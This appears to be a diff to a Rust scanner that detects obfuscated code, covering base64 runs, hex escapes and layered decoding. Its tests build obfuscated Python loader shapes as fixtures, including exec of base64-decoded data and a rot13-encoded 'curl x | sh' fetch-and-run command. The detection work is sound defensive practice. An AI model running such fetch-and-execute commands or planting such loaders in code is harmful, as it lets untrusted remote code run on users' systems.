@@ -155,17 +155,14 @@ const B64: [bool; 256] = {
 /// The length of the longest run of base64 characters: the "very long encoded literal" shape,
 /// measured here rather than by a rule regex (which would have no literal to anchor on).
 pub fn longest_base64_run(data: &[u8]) -> usize {
+    // branch-free: words and spaces alternate too often for a branch predictor
     let mut best = 0;
     let mut run = 0;
     for &b in data {
-        if B64[b as usize] {
-            run += 1;
-        } else {
-            best = best.max(run);
-            run = 0;
-        }
+        run = (run + 1) * usize::from(B64[b as usize]);
+        best = best.max(run);
     }
-    best.max(run)
+    best
 }
 
 /// Decodes every layer under `data`, breadth first.
@@ -282,7 +279,11 @@ fn runs(data: &[u8], min: usize, out: &mut Vec<Candidate>) {
             }
             segments.push((s, i));
             total += i - s;
-            // a continuation: quotes and joiners only, then more alphabet
+            // a continuation starts with the quote that closes this literal
+            if !matches!(data.get(i), Some(b'\'' | b'"')) {
+                break;
+            }
+            // then quotes and joiners only, then more alphabet
             let mut j = i;
             let mut quotes = 0;
             while j < data.len() && j - i < 64 {
@@ -319,12 +320,10 @@ fn runs(data: &[u8], min: usize, out: &mut Vec<Candidate>) {
 
 /// Runs of at least 16 `\xNN` escapes, decoded.
 fn escapes(data: &[u8], out: &mut Vec<Candidate>) {
+    let finder = memchr::memmem::Finder::new(b"\\x");
     let mut i = 0;
-    while i + 4 <= data.len() {
-        if !(data[i] == b'\\' && data[i + 1] == b'x') {
-            i += 1;
-            continue;
-        }
+    while let Some(at) = finder.find(&data[i..]) {
+        i += at;
         let start = i;
         let mut bytes = Vec::new();
         while i + 4 <= data.len() && data[i] == b'\\' && data[i + 1] == b'x' {
@@ -342,6 +341,9 @@ fn escapes(data: &[u8], out: &mut Vec<Candidate>) {
             });
         }
         i = i.max(start + 1);
+        if i + 4 > data.len() {
+            break;
+        }
     }
 }
 
@@ -480,7 +482,7 @@ fn decode_run(
         }
         t
     };
-    let is_hex = trimmed.len() % 2 == 0 && trimmed.iter().all(u8::is_ascii_hexdigit);
+    let is_hex = trimmed.len().is_multiple_of(2) && trimmed.iter().all(u8::is_ascii_hexdigit);
     let (codec, raw) = if is_hex {
         let raw: Vec<u8> = trimmed
             .chunks(2)
@@ -617,10 +619,8 @@ fn meaningful(b: &[u8]) -> bool {
         return true;
     }
     let sample = &b[..b.len().min(4096)];
-    let text = std::str::from_utf8(sample).map_or_else(
-        |e| std::str::from_utf8(&sample[..e.valid_up_to()]).unwrap_or(""),
-        |s| s,
-    );
+    let text = std::str::from_utf8(sample)
+        .unwrap_or_else(|e| std::str::from_utf8(&sample[..e.valid_up_to()]).unwrap_or(""));
     if text.len() * 10 < sample.len() * 9 {
         return false;
     }
@@ -674,7 +674,8 @@ mod tests {
 
     #[test]
     fn nested_urlsafe_hex_reversed_and_split_literals() {
-        let inner = format!("exec(base64.b64decode('{}'))", B64STD.encode(CODE));
+        // `???` encodes to `Pz8_` in the URL-safe alphabet
+        let inner = format!("#???\nexec(base64.b64decode('{}'))", B64STD.encode(CODE));
         let outer = format!("x = '{}'", URL_SAFE_NO_PAD.encode(inner.as_bytes()));
         assert_eq!(
             chains(outer.as_bytes()),
@@ -714,7 +715,7 @@ mod tests {
             chains(format!("exec(''.join(chr(c) for c in [{}]))", codes.join(", ")).as_bytes()),
             ["char-codes"]
         );
-        let r = String::from_utf8(rot13(b"import os; os.system('curl x | sh')")).unwrap();
+        let r = String::from_utf8(rot13(b"import os; os.system(\"curl x | sh\")")).unwrap();
         assert_eq!(
             chains(format!("exec(codecs.decode('{r}', 'rot13'))").as_bytes()),
             ["rot13"]
